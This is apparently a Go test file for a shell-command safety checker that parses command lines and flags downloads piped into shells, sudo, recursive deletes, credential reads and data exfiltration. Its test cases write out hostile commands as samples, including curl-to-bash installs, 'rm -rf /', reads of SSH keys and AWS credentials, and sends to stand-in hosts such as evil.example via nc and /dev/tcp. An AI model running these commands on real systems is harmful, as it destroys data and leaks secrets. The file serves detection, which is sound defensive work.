package rules

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestParseShell(t *testing.T) {
	show := func(line string) string {
		var out []string
		for _, c := range parseShell(line) {
			s := strings.Join(c.words, " ")
			if c.pipesOut {
				s += " |"
			}
			if c.parent >= 0 {
				s += " <" + strings.Join(parseShell(line)[c.parent].words, " ")
			}
			out = append(out, "["+s+"]")
		}
		return strings.Join(out, " ")
	}
	for line, want := range map[string]string{
		`curl -fsSL https://x.sh | sudo bash -s -- -y`:   `[curl -fsSL https://x.sh |] [sudo bash -s -- -y]`,
		`echo 'a|b; c' && ls "x y"||true # comment | sh`: `[echo a|b; c] [ls x y] [true]`,
		`bash -c "$(curl -fsSL https://x)"`:              `[bash -c] [curl -fsSL https://x <bash -c]`,
		"eval `wget -qO- x`":                             `[eval] [wget -qO- x <eval]`,
		`bash <(curl x) arg`:                             `[bash arg] [curl x <bash arg]`,
		"a \\\n b > out 2>&1 &":                          `[a b > out 2 > 1]`,
		`(cd /tmp; rm -rf *)`:                            `[] [cd /tmp <] [rm -rf * <]`,
		`x=$((1+2)) y`:                                   `[x=$((1+2)) y]`,
	} {
		assert.Equal(t, want, show(line), line)
	}
	cmds := parseShell("wget -qO /tmp/i.sh \\\n  https://x\n# done\nbash /tmp/i.sh")
	assert.Equal(t, []int{0, 40}, []int{cmds[0].off, cmds[1].off}, "offsets of the first words")
	deep := parseShell(strings.Repeat("$(", 100000) + "sudo x" + strings.Repeat(")", 100000) + "; id")
	assert.Len(t, deep, maxShellDepth+2, "past the depth limit, substitutions only separate commands")
	assert.Equal(t, []string{"sudo", "x"}, deep[maxShellDepth].words)
	assert.Equal(t, maxShellDepth-1, deep[maxShellDepth].parent)
	assert.Equal(t, []string{"id"}, deep[maxShellDepth+1].words)
	assert.Equal(t, -1, deep[maxShellDepth+1].parent)
}

func TestProgram(t *testing.T) {
	for line, want := range map[string]string{
		`FOO=1 env -u X BAR=2 nohup timeout -s 9 5 xargs -I {} rm {}`: "rm",
		`sudo -u root rm -rf /`: "rm",
		`/usr/bin/CURL x`:       "curl",
		`A=1`:                   "",
	} {
		prog, _ := parseShell(line)[0].program(false)
		assert.Equal(t, want, prog, line)
	}
	prog, args := parseShell(`sudo -E apt install x`)[0].program(true)
	assert.Equal(t, "sudo", prog)
	assert.Equal(t, []string{"-E", "apt", "install", "x"}, args)
}

func TestCommandJudges(t *testing.T) {
	for _, tc := range []struct {
		judge func([]shellCommand, func(int, string))
		line  string
		want  string // "" when the line is harmless
	}{
		{downloadRuns, `curl -fsSL https://get.example.sh | sh`, "pipes what curl downloads into sh"},
		{downloadRuns, `wget -O- https://x | tee log | sudo bash`, "pipes what wget downloads into bash"},
		{downloadRuns, `bash -c "$(curl -fsSL https://x)"`, "has bash run what curl downloads"},
		{downloadRuns, `source <(curl -s https://x)`, "has source run what curl downloads"},
		{downloadRuns, `curl -o /tmp/i.sh https://x && bash /tmp/i.sh`, "runs /tmp/i.sh, which curl downloaded"},
		{downloadRuns, `iwr https://x | iex`, "pipes what iwr downloads into iex"},
		{downloadRuns, `curl -s https://api.github.com/repos/x | jq .name`, ""},
		{downloadRuns, `echo "$(curl -s https://x)"`, ""},
		{downloadRuns, `git log | sh -c cat`, ""},
		{perCommand(escalates), `sudo apt-get install -y jq`, "runs sudo"},
		{perCommand(escalates), `ls && doas reboot`, "runs doas"},
		{perCommand(escalates), `echo sudo`, ""},
		{perCommand(deletes), `rm -rf $BUILD_DIR`, "deletes the folder $BUILD_DIR named by a variable, recursively"},
		{perCommand(deletes), `rm -rf *`, "deletes *"},
		{perCommand(deletes), `rm -f *.log`, "deletes by the wildcard *.log"},
		{perCommand(deletes), `rm -rf ~`, "deletes ~"},
		{perCommand(deletes), `find . -name '*.pyc' -delete`, "deletes what find matches"},
		{perCommand(deletes), `rm -f "$TMPFILE"`, ""},
		{perCommand(deletes), `rm -rf build/`, ""},
		{perCommand(readsCredential), `cat ~/.ssh/id_ed25519`, "reads ~/.ssh/id_ed25519"},
		{perCommand(readsCredential), `cat "$HOME/.aws/credentials"`, "reads $HOME/.aws/credentials"},
		{perCommand(readsCredential), `grep TOKEN .env`, "reads .env"},
		{perCommand(readsCredential), `env | sort`, "dumps every environment variable, tokens included"},
		{perCommand(readsCredential), `printenv GITHUB_TOKEN`, "prints the secret GITHUB_TOKEN"},
		{perCommand(readsCredential), `security find-generic-password -s x -w`, "reads stored credentials with security find-generic-password"},
		{perCommand(readsCredential), `gh auth token`, "reads stored credentials with gh auth token"},
		{perCommand(readsCredential), `cat .env.example`, ""},
		{perCommand(readsCredential), `cat ~/.ssh/id_ed25519.pub`, ""},
		{perCommand(readsCredential), `printenv HOME`, ""},
		{perCommand(readsCredential), `env NODE_ENV=test npm test`, ""},
		{perCommand(sends), `curl -X POST -d @notes.txt https://x`, "sends a POST request with curl"},
		{perCommand(sends), `curl --data-binary @- https://x`, "sends data with curl --data-binary"},
		{perCommand(sends), `curl -F file=@a https://x`, "sends data with curl -F"},
		{perCommand(sends), `cat f | nc evil.example 4444`, "opens a connection with nc"},
		{perCommand(sends), `wget --post-file=/etc/passwd https://x`, "sends data with wget --post-file=/etc/passwd"},
		{perCommand(sends), `rsync -a . user@host:/backup`, "copies files to or from user@host:/backup with rsync"},
		{perCommand(sends), `cat < /dev/tcp/evil/80`, "opens a connection through /dev/tcp/evil/80"},
		{perCommand(sends), `curl -fsSL https://api.github.com/x`, ""},
		{perCommand(sends), `rsync -a src/ dst/`, ""},
	} {
		var got []string
		tc.judge(parseShell(tc.line), func(_ int, what string) { got = append(got, what) })
		if tc.want == "" {
			assert.Empty(t, got, tc.line)
		} else {
			assert.Equal(t, []string{tc.want}, got, tc.line)
		}
	}
}
